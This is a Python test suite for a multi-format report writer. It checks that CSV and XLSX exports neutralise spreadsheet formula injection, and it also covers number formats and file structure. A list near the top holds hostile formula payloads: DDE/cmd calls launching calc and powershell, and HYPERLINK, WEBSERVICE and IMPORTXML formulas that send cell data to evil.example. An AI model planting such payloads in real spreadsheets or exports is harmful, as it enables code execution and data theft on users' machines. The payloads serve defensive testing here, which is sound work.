"""Four formats, one content; nothing that a spreadsheet would run."""

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.reporting.writers import Column, Kind, TooManyRows, XlsxWriter, disarmed, writer_of

COMMANDS = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "WEBSERVICE(\"http://evil.example\")", "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "2+5+cmd|' /C powershell IEX(1)'!A0", "EXEC(\"calc\")", "A1",
)  # fmt: skip
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\0=",
    " =",
    "\n@",
    "\ufeff=",
    "＝",
    "＋",
    "\u200b-",
    '";=',
    "a;=",
)
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
SIGNS = "=+-@＝＋－＠"
INVISIBLE = " \t\r\n\0\ufeff\u200b\u2060"


def dangerous(cell: str) -> bool:
    """Whether a program that splits at any usual separator would find a formula in this cell."""
    parts = [cell]
    for separator in ";,\t|\r\n":
        parts = [piece for part in parts for piece in part.split(separator)]
    return (cell[:1] in "\t\r\0" and cell != "") or any(
        part.lstrip(INVISIBLE + '"')[:1] in tuple(SIGNS) for part in parts
    )


def written(form: str, columns: list[Column], rows: list[list[Any]], **options: Any) -> bytes:
    file = io.BytesIO()
    writer = writer_of(form, file, columns, **options)
    writer.write(rows)
    writer.close()
    return file.getvalue()


def test_there_are_a_hundred_payloads_at_least() -> None:
    assert len(set(PAYLOADS)) >= 100
    assert all(dangerous(payload) for payload in PAYLOADS)


@pytest.mark.parametrize("bom", [False, True])
def test_no_payload_is_raw_in_csv(bom: bool) -> None:
    text = written("csv", [Column("a"), Column("b")], [[one, one] for one in PAYLOADS], bom=bom).decode()
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    assert len(rows) == len(PAYLOADS)
    for payload, row in zip(PAYLOADS, rows, strict=True):
        for cell in row:
            assert cell.replace("'", "") == payload.replace("'", "")
            assert not dangerous(cell), cell


def test_no_payload_is_a_formula_or_a_link_in_xlsx() -> None:
    content = written("xlsx", [Column("a")], [[one] for one in PAYLOADS])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)


@given(st.text())
def test_no_text_at_all_is_dangerous_once_disarmed(text: str) -> None:
    assert not dangerous(disarmed(text))
    assert disarmed(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "harmless", ["IFSI Paris-Nord", "2026-2027", "D'Artagnan", "a - b", "", "Île-de-France"]
)
def test_ordinary_text_is_left_alone(harmless: str) -> None:
    assert disarmed(harmless) == harmless


NUMBERS = [
    Column("n", Kind.INTEGER),
    Column("x", Kind.NUMBER),
    Column("b", Kind.BOOLEAN),
    Column("t", Kind.MOMENT),
]
MOMENT = datetime(2027, 1, 11, 9, 30, 15, 123456, tzinfo=UTC)
ROWS: list[list[Any]] = [[-3, -1.25, True, MOMENT], [None, None, None, None], [7, 1e-9, False, MOMENT]]


def test_numbers_stay_numbers_in_every_format() -> None:
    text = written("csv", NUMBERS, ROWS).decode()
    assert text.splitlines()[1] == "-3,-1.25,true,2027-01-11T09:30:15.123456Z"
    assert text.splitlines()[2] == ",,,"
    assert text.endswith("\r\n")
    lines = [json.loads(line) for line in written("json", NUMBERS, ROWS).splitlines()]
    assert lines[0] == {"n": -3, "x": -1.25, "b": True, "t": "2027-01-11T09:30:15.123456Z"}
    table = pyarrow.parquet.read_table(io.BytesIO(written("parquet", NUMBERS, ROWS)))
    assert table.column("x").to_pylist() == [-1.25, None, 1e-9]
    assert table.column("t").to_pylist()[0] == MOMENT
    sheet = openpyxl.load_workbook(io.BytesIO(written("xlsx", NUMBERS, ROWS))).active
    assert sheet is not None
    first = [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert first[:3] == [-3, -1.25, True]


def test_a_mark_of_byte_order_only_where_it_is_asked_for() -> None:
    assert written("csv", NUMBERS, [], bom=True).startswith(b"\xef\xbb\xbf")
    assert not written("csv", NUMBERS, []).startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("form", ["csv", "json", "xlsx", "parquet"])
def test_a_file_without_rows_is_a_file(form: str) -> None:
    content = written(form, NUMBERS, [])
    assert (content == b"") == (form == "json")


def test_a_sheet_refuses_more_rows_than_it_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.reporting.writers.XLSX_MOST_ROWS", 2)
    writer = XlsxWriter(io.BytesIO(), NUMBERS)
    writer.write(ROWS[:2])
    with pytest.raises(TooManyRows):
        writer.write(ROWS[:1])
    writer.abandon()


def test_a_parquet_file_comes_in_row_groups(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.reporting.writers.PARQUET_GROUP", 4)
    file = io.BytesIO()
    writer = writer_of("parquet", file, NUMBERS)
    for _ in range(5):
        writer.write(ROWS)
    writer.close()
    held = pyarrow.parquet.ParquetFile(io.BytesIO(file.getvalue()))
    assert (held.num_row_groups, held.metadata.num_rows) == (3, 15)
